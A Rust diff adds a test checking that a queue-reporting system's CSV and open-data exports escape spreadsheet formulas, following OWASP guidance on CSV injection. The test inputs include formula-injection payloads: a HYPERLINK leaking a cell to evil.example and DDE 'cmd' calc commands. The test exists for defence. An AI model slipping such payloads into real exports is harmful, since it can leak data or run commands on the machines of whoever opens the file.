@@ -389,3 +389,125 @@ proptest::proptest! {
         proptest::prop_assert_eq!(s.count as usize, values.len());
     }
 }
+
+/// A coordinator who opens a report in a spreadsheet never runs a formula someone typed as a
+/// name: every cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
+/// leading `'` (OWASP, CSV injection), in the center report and the city reports alike; plain
+/// numbers stay numbers.
+#[test]
+fn report_csv_cells_that_a_spreadsheet_would_run_are_escaped() {
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\tTAB",
+    ];
+    // The center report: services named by the catalog.
+    let mut toml = super::common::TEST_CATALOG.replace(
+        "name = { es = \"Información\", en = \"Information\" }",
+        &format!(
+            "name = {{ es = {}, en = \"Information\" }}",
+            toml_string(hostile[0])
+        ),
+    );
+    toml = toml.replace(
+        "name = { es = \"Legal\", en = \"Legal\" }",
+        &format!(
+            "name = {{ es = {}, en = \"Legal\" }}",
+            toml_string(hostile[3])
+        ),
+    );
+    let catalog = Catalog::parse(&toml, "test.toml").expect("a catalog with odd names");
+    let day = NaiveDate::from_ymd_opt(2026, 1, 5).expect("day");
+    let ticket = |service: &str| report::TicketFact {
+        day,
+        service: service.into(),
+        lang: "es".into(),
+        priority: false,
+        appointment: false,
+        issued_at: super::common::monday_9(),
+        state: "waiting".into(),
+        called_at: None,
+        serving_at: None,
+        ended_at: None,
+    };
+    let facts = report::Facts {
+        tickets: vec![ticket("info"), ticket("legal")],
+        ..Default::default()
+    };
+    let r = report::compute(&facts, &catalog, day, day);
+    let es = Localizer::new(integra::core::Lang::Es).expect("es");
+    let csv = render::csv(&r, &es, &catalog);
+    assert!(
+        csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1"),
+        "{csv}"
+    );
+    assert!(csv.contains("\r\n'@SUM(1+1)*cmd|' /C calc'!A0,"), "{csv}");
+    assert_no_formula(&csv);
+
+    // The city report and the open data: a center's name, services' names.
+    let mut c = integra::city::figures::CenterFigures {
+        id: "c1".into(),
+        name: hostile[1].into(),
+        ..Default::default()
+    };
+    let g = report::Group {
+        visitors: 40,
+        served: 40,
+        ..Default::default()
+    };
+    for (i, name) in hostile.iter().enumerate() {
+        let code = format!("s{i}");
+        c.services.push((code.clone(), g.clone()));
+        c.names.insert(
+            code,
+            [(integra::core::Lang::Es, name.to_string())]
+                .into_iter()
+                .collect(),
+        );
+    }
+    c.total = g;
+    let city = integra::city::figures::CityReport {
+        from: day,
+        to: day,
+        centers: vec![c],
+        ..Default::default()
+    };
+    let open = integra::city::render::open_data(&city, integra::core::Lang::Es);
+    assert!(open.contains(",c1,'+cmd|' /C calc'!A0,s2,'-2+3,"), "{open}");
+    assert!(open.contains(",s4,'\tTAB,"), "{open}");
+    assert_no_formula(&open);
+    let fr = Localizer::new(integra::core::Lang::Fr).expect("fr");
+    let csv = integra::city::render::csv(&city, &fr);
+    assert!(csv.contains("'+cmd|' /C calc'!A0"), "{csv}");
+    assert_no_formula(&csv);
+    // A figure is still a number a spreadsheet can add up.
+    assert!(open.contains(",40,40,"), "{open}");
+}
+
+/// A TOML basic string.
+fn toml_string(s: &str) -> String {
+    format!(
+        "\"{}\"",
+        s.replace('\\', "\\\\")
+            .replace('"', "\\\"")
+            .replace('\t', "\\t")
+    )
+}
+
+/// No cell of `csv` starts with what a spreadsheet runs (a quoted cell is read inside its
+/// quotes).
+fn assert_no_formula(csv: &str) {
+    for line in csv.split("\r\n") {
+        for cell in line.split(',') {
+            let inner = cell.trim_start_matches('"');
+            let formula = inner.starts_with(['=', '+', '@', '\t', '\r'])
+                || (inner.starts_with('-') && inner.parse::<f64>().is_err());
+            assert!(
+                !formula,
+                "a cell a spreadsheet would run: {cell:?} in {line:?}"
+            );
+        }
+    }
+}
